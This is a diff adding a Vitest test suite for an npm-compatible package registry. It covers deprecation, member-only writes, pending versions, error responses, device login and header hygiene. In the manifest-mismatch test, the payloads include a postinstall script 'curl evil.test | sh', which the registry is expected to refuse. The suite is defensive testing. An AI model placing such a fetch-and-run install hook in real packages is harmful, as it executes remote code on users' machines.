@@ -1,0 +1,200 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { findPendingCode } from '../../src/auth/device-codes.store.ts'
+import { decideDeviceCode } from '../../src/auth/device-log-in.ts'
+import type { Database } from '../../src/database/database.ts'
+import { testDatabases } from '../../src/testing/test-databases.ts'
+import { type HttpRegistry, type Json, openHttpRegistry } from './http-registry.ts'
+import { packScenario, publishDocument } from './scenario-package.ts'
+
+describe.each(await testDatabases())('the npm protocol on $kind', ({ open }) => {
+  let database: Database
+  let registry: HttpRegistry
+
+  beforeAll(async () => {
+    database = await open()
+    registry = await openHttpRegistry(database)
+    await registry.publish({ name: '@acme/forms', version: '1.0.0' })
+  })
+  afterAll(async () => {
+    await registry.close()
+    await database.close()
+  })
+
+  describe('deprecation', () => {
+    const name = '@acme/old'
+    beforeAll(async () => {
+      for (const version of ['1.0.0', '1.1.0']) await registry.publish({ name, version })
+    })
+    const send = async (document: unknown) =>
+      registry.ask(`/${name}`, { as: 'acme', method: 'PUT', body: JSON.stringify(document) })
+
+    it('in a package.json loses no older version and deprecates nothing (spare)', async () => {
+      await registry.publish({ name, version: '1.2.0', fields: { deprecated: 'from the start' } })
+      const { versions } = await registry.packument(name)
+      expect(Object.keys(versions)).toEqual(['1.0.0', '1.1.0', '1.2.0'])
+      expect(versions['1.2.0']).not.toHaveProperty('deprecated')
+    })
+
+    it('by the document of npm sets what differs', async () => {
+      const document = await registry.packument(name, 'acme')
+      document.versions['1.0.0'].deprecated = 'use 1.1'
+      expect((await send(document)).status).toBe(200)
+      const { versions } = await registry.packument(name)
+      expect([versions['1.0.0'].deprecated, versions['1.1.0'].deprecated]).toEqual(['use 1.1', undefined])
+    })
+
+    it('by a document that is out of date takes nothing of others back', async () => {
+      const [mine, theirs] = [await registry.packument(name, 'acme'), await registry.packument(name, 'acme')]
+      theirs.versions['1.1.0'].deprecated = 'has a leak'
+      expect((await send(theirs)).status).toBe(200)
+      mine.versions['1.0.0'].deprecated = ''
+      const refused = await send(mine)
+      expect([refused.status, await refused.json()]).toEqual([
+        409,
+        expect.objectContaining({ code: 'document_outdated' }),
+      ])
+      expect((await registry.packument(name)).versions['1.1.0'].deprecated).toBe('has a leak')
+    })
+
+    it('by a document without some versions is an attempt to unpublish, and refused', async () => {
+      const document = await registry.packument(name, 'acme')
+      delete document.versions['1.0.0']
+      const response = await send(document)
+      expect([response.status, (await response.json()) as Json]).toEqual([
+        405,
+        expect.objectContaining({ error: expect.stringContaining('agentgym yank') }),
+      ])
+    })
+
+    it('is for members only', async () => {
+      const document = await registry.packument(name, 'mallory')
+      document.versions['1.1.0'].deprecated = 'mine now'
+      const body = JSON.stringify(document)
+      expect((await registry.ask(`/${name}`, { as: 'mallory', method: 'PUT', body })).status).toBe(403)
+      expect((await registry.ask(`/${name}`, { method: 'PUT', body })).status).toBe(401)
+    })
+  })
+
+  it('the manifest beside the tarball is not served, and may not differ in what an installation does', async () => {
+    const scenario = { name: '@acme/confused', version: '1.0.0' }
+    const send = async (changes: Json) => {
+      const document = JSON.parse(publishDocument(scenario, await packScenario(scenario)))
+      Object.assign(document.versions['1.0.0'], changes)
+      return registry.ask('/@acme/confused', { as: 'acme', method: 'PUT', body: JSON.stringify(document) })
+    }
+    for (const changes of [
+      { scripts: { postinstall: 'curl evil.test | sh' } },
+      { dependencies: { evil: '*' } },
+      { bin: 'x.js' },
+      { version: '2.0.0' },
+      { name: '@acme/other' },
+    ]) {
+      const refused = await send(changes)
+      expect([changes, refused.status, ((await refused.json()) as Json).code]).toEqual([
+        changes,
+        422,
+        'package_manifest_mismatch',
+      ])
+    }
+    expect((await send({ description: 'Something else', _hasShrinkwrap: true })).status).toBe(201)
+    const served = (await registry.packument('@acme/confused', 'acme')).versions['1.0.0']
+    expect(served.description).toBe('Balance nothing at all.')
+    expect(served).not.toHaveProperty('_hasShrinkwrap')
+  })
+
+  it('what is not published is its owner’s alone', async () => {
+    const name = '@acme/pending'
+    expect((await registry.put({ name, version: '1.0.0' })).status).toBe(201)
+    expect((await registry.ask(`/${name}`)).status).toBe(404)
+    expect((await registry.ask(`/${name}/-/pending-1.0.0.tgz`, { as: 'mallory' })).status).toBe(404)
+    expect((await registry.ask(`/${name}/-/pending-1.0.0.tgz`, { as: 'acme' })).status).toBe(200)
+    await registry.pass(name, '1.0.0')
+    expect((await registry.put({ name, version: '1.1.0' })).status).toBe(201)
+    expect(Object.keys((await registry.packument(name)).versions)).toEqual(['1.0.0'])
+    expect(Object.keys((await registry.packument(name, 'acme')).versions)).toEqual(['1.0.0', '1.1.0'])
+    expect((await registry.ask(`/${name}/-/pending-1.1.0.tgz`)).status).toBe(404)
+  })
+
+  describe('answers in npm’s form', () => {
+    it.each([
+      ['GET', '/-/npm/v1/attestations/@acme%2fforms@1.0.0', 404],
+      ['POST', '/-/npm/v1/security/advisories/bulk', 404],
+      ['GET', '/-/npm/v1/tokens', 404],
+      ['GET', '/-/all', 404],
+      ['GET', '/@acme/forms/-/package.json', 404],
+      ['GET', '/lodash', 404],
+      ['GET', '/@acme/forms/9.9.9', 404],
+      ['PUT', '/-/user/org.couchdb.user:mallory', 401],
+      ['GET', '/-/v1/done?code=agd_nonsense', 400],
+      ['DELETE', '/-/user/token/agt_nonsense', 401],
+      ['GET', '/-/user/token/agt_nonsense', 401],
+      ['GET', '/-/whoami', 401],
+      ['DELETE', '/@acme/forms/-rev/1-a', 405],
+      ['DELETE', '/@acme/forms/-/forms-1.0.0.tgz/-rev/1-a', 405],
+      ['PUT', '/@acme/forms/-rev/1-a', 405],
+    ])('%s %s: %i', async (method, path, status) => {
+      const response = await registry.ask(path, {
+        method,
+        body: method === 'GET' || method === 'DELETE' ? undefined : '{}',
+      })
+      expect(response.status).toBe(status)
+      expect(await response.json()).toMatchObject({ error: expect.stringMatching(/\w/) })
+      expect(response.headers.get('www-authenticate')).toBeNull()
+    })
+
+    it('to a token that does not hold', async () => {
+      const response = await registry.ask('/@acme/forms', { headers: { authorization: 'Bearer agt_nonsense' } })
+      expect([response.status, await response.json()]).toEqual([
+        401,
+        { code: 'unauthenticated', error: expect.stringContaining('The token is unknown.') },
+      ])
+    })
+
+    it('to a body that is too large', async () => {
+      const response = await registry
+        .ask('/@acme/forms', { as: 'acme', method: 'PUT', body: 'x'.repeat(32 * 2 ** 20) })
+        .catch(() => undefined)
+      if (response !== undefined) expect(response.status).toBe(413)
+    })
+  })
+
+  it('logs in by a page of the browser, and out again', async () => {
+    const { loginUrl, doneUrl } = (await registry.json('/-/v1/login', { method: 'POST', body: '{}' })) as Record<
+      string,
+      string
+    >
+    const pending = await fetch(doneUrl)
+    expect([pending.status, pending.headers.get('retry-after')]).toEqual([202, '5'])
+    const code = await findPendingCode(
+      registry.services.database.query,
+      new URL(loginUrl).searchParams.get('user_code') ?? '',
+    )
+    if (code === undefined) throw new Error('the code is not there')
+    await decideDeviceCode(registry.services, registry.change('').actor, code, 'approved', '127.0.0.1')
+    await registry.services.database.query.updateTable('device_codes').set({ polled_at: null }).execute()
+    const { token } = (await (await fetch(doneUrl)).json()) as { token: string }
+    registry.tokens.set('logged in', token)
+    expect(await registry.json('/-/whoami', { as: 'logged in' })).toEqual({ username: 'acme' })
+    expect((await registry.ask(`/-/user/token/${token}`, { as: 'logged in', method: 'DELETE' })).status).toBe(200)
+    expect((await registry.ask('/-/whoami', { as: 'logged in' })).status).toBe(401)
+    expect(JSON.stringify(registry.services.logged)).not.toContain(token)
+  })
+
+  it('tells nothing of how it works', async () => {
+    const response = await registry.ask('/@acme/forms')
+    const body = (await response.json()) as Json
+    expect(response.headers.get('x-powered-by')).toBeNull()
+    expect(response.headers.get('access-control-allow-origin')).toBeNull()
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
+    for (const internal of ['_distfiles', '_uplinks']) expect(body).not.toHaveProperty(internal)
+  })
+
+  it('serves what was asked for conditionally and by HEAD', async () => {
+    for (const path of ['/@acme/forms', '/@acme/forms/-/forms-1.0.0.tgz']) {
+      const first = await registry.ask(path, { method: 'HEAD' })
+      expect([path, first.status]).toEqual([path, 200])
+      const again = await registry.ask(path, { headers: { 'if-none-match': first.headers.get('etag') ?? '' } })
+      expect([path, again.status, await again.text()]).toEqual([path, 304, ''])
+    }
+  })
+})
